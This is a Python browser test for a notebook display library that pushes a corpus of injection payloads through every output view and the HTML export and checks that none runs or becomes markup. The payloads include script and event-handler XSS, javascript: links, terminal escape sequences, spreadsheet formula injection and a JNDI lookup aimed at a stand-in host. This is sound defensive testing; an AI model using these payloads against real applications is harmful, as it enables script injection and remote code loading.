"""Text of processes in every place that shows text: nothing of it runs, and nothing of it becomes markup, live, saved or exported."""

from __future__ import annotations

import json
import subprocess
import sys

import pytest
from playwright.sync_api import Dialog, expect

from tests.browser import scenes
from tests.browser.conftest import Open, wait_until

pytestmark = [pytest.mark.browser, pytest.mark.timeout(240)]
SHARED = True

#: Each tells of itself by setting window.owned, or by asking for a page, or by an alert.
CORPUS = [
    "<script>window.owned='script'</script>",
    "<img src=x onerror=\"window.owned='img'\">",
    "<svg onload=\"window.owned='svg'\"><animate onbegin=\"window.owned='animate'\" attributeName=x></svg>",
    "<iframe srcdoc=\"<script>parent.owned='iframe'</script>\"></iframe>",
    "<details open ontoggle=\"window.owned='toggle'\"><summary>x</summary></details>",
    "</pre></code></td></table></style></script><style>.anb,.anb-s,body{display:none!important}</style>",
    '<a href="javascript:window.owned=\'href\'">click</a> [md](javascript:window.owned=1) ![md](x" onerror="window.owned=1)',
    "<base href=//evil.invalid/><meta http-equiv=refresh content=0;url=//evil.invalid>",
    '"\' autofocus onfocus="window.owned=\'focus\'" style="position:fixed;inset:0',
    "`${window.owned='template'}` {{constructor.constructor('window.owned=1')()}} $$\\href{javascript:window.owned=1}{x}$$",
    "\x1b]8;;javascript:window.owned='osc8'\x1b\\link\x1b]8;;\x1b\\ \x1b]52;c;ZXZpbA==\x07 \x1b]0;title\x07 \x1bP+q544e\x1b\\",
    "\x1b[2J\x1b[H\x1b[?1049h\x1b[8mhidden\x1b[0m \x9b31m \x9d8;;x\x9c \x1bc \x07\x08\x7f\x00",
    "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u061c \ud800 \U000e0041 \ufeff",
    "&lt;img src=x onerror=alert(1)&gt; &#x3c;script&#x3e; %3Cscript%3E",
    "=cmd|' /C calc'!A0 @SUM(1) ${jndi:ldap://evil.invalid/x}",
]
EVERYWHERE = (
    f"CORPUS = {CORPUS!r}\n"
    r"""
ALL = " ".join(CORPUS)
def bad_steps():
    steps = [StepSnapshot("a", "attempt", ALL, "completed")]
    for n, text in enumerate(CORPUS):
        steps.append(StepSnapshot(f"s{n}", "tool" if n % 2 else text, text, "failed" if n % 3 else text, "a", 1.0, 0.5, text, text, text))
    return steps
bad = FakeSource(*[a_run(0, name=ALL, command=ALL, kind=ALL, params={text: text for text in CORPUS}, warnings=CORPUS, model=ALL, note=ALL,
                         replay_of=ALL, steps=bad_steps())])
for text in CORPUS: bad.emit("run-0", text + "\n"); bad.emit("run-0", text + "\n", "stderr")
show(bad, loop)
crowd = a_group(*[a_run(n, name=f"{text} [{n}]", params={text: text}, error=text if n % 2 else None, kind=text)
                  for n, text in enumerate(CORPUS)])
crowd.group = replace(crowd.group, name=ALL, kind="session", status="active")
for n, text in enumerate(CORPUS): crowd.emit(f"run-{n}", text)
show(crowd, loop)
"""
)
ENDS = """
bad.update("run-0", status="failed", error=ALL)
crowd.group = replace(crowd.group, status="ended")
for n in range(len(CORPUS)): crowd.update(f"run-{n}", status="failed")
"""
FRAMES = """
import agentnb as nb
from IPython.display import display
with nb.Session(ALL[:200].replace(chr(0), "").encode("utf-8", "replace").decode()) as real:
    def agent(ctx: nb.RunContext, corpus: list):
        for text in corpus:
            text = text.encode("utf-8", "replace").decode()
            with ctx.step(text, input={text: text}): ctx.log(text)
        ctx.artifact(corpus[1].replace("/", ""), corpus[0].encode())
        raise ValueError(" ".join(corpus))
    texts = [text.encode("utf-8", "replace").decode().replace(chr(0), "") for text in CORPUS]
    run = real.python(agent, texts, name=texts[1], params={"x": texts[0]})
    run.wait()
display(run, real, run.result, real.runs_df(), real.steps_df(), real.artifacts_df())
"""
MARKUP = ":is(img, script, a, iframe, svg, base, meta, object, embed, form, [onerror], [onload], [onfocus], [ontoggle])"


def test_nothing_of_a_hostile_corpus_runs_or_becomes_markup(open_book: Open) -> None:
    book = open_book(scenes.SETUP, EVERYWHERE, ENDS, FRAMES)
    dialogs: list[str] = []

    def refuse(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    book.page.on("dialog", refuse)
    asked: list[str] = []
    book.page.on("request", lambda request: asked.append(request.url) if "evil" in request.url else None)
    for cell in (0, 1):
        book.run(cell)
    views = book.output(1).locator(".anb")
    expect(views).to_have_count(2, timeout=20_000)
    expect(views.first.get_by_role("log")).to_contain_text("window.owned='img'")
    expect(views.first.get_by_role("tree")).to_contain_text("window.owned='svg'")
    views.nth(1).locator(".anb-toggle").nth(1).click()
    expect(views.nth(1).locator(".anb-detail")).to_contain_text("window.owned='img'")
    for line in views.first.locator(".anb-step-line").all():
        line.click()
    assert views.locator(MARKUP).count() == 0
    assert views.locator("style").count() == 0
    book.run(2)
    static = book.output(1).locator(".anb-s")
    expect(static).to_have_count(2)
    assert static.locator(MARKUP).count() == 0
    assert all(place.is_visible() for place in static.all())
    book.run(3)
    expect(book.output(3).locator("table.dataframe").last).to_be_visible(timeout=60_000)
    book.idle()
    assert book.output(3).locator("table.dataframe, .anb-s").locator(MARKUP).count() == 0  # of plain text JupyterLab itself makes links
    book.save()
    _exported(book.lab.folder / book.name, book.page.context.new_page())
    assert book.page.evaluate("window.owned") is None
    book.page.remove_listener("dialog", refuse)  # the page goes on to the next test
    assert (dialogs, asked, book.errors) == ([], [], [])


def _exported(path, page) -> None:
    """The same of the notebook as HTML, opened without a network."""
    html = path.with_suffix(".html")
    command = [sys.executable, "-m", "nbconvert", "--to", "html", "--embed-images", str(path), "--output", html.name]
    done = subprocess.run(command, capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode == 0, done.stderr[-2000:]
    page.route("**/*", lambda route: route.continue_() if route.request.url.startswith("file:") else route.abort())
    page.goto(html.as_uri())
    wait_until(lambda: page.locator(".anb-s").count() >= 2, "the exported page")
    assert page.locator(f".anb-s {MARKUP}").count() == 0
    assert page.locator(f".jp-OutputArea-output table {MARKUP}").count() == 0
    assert page.evaluate("window.owned") is None
    assert page.locator(".anb-s").first.is_visible()
    assert "widget-view" not in json.dumps(json.loads(path.read_text())["cells"])
    page.close()
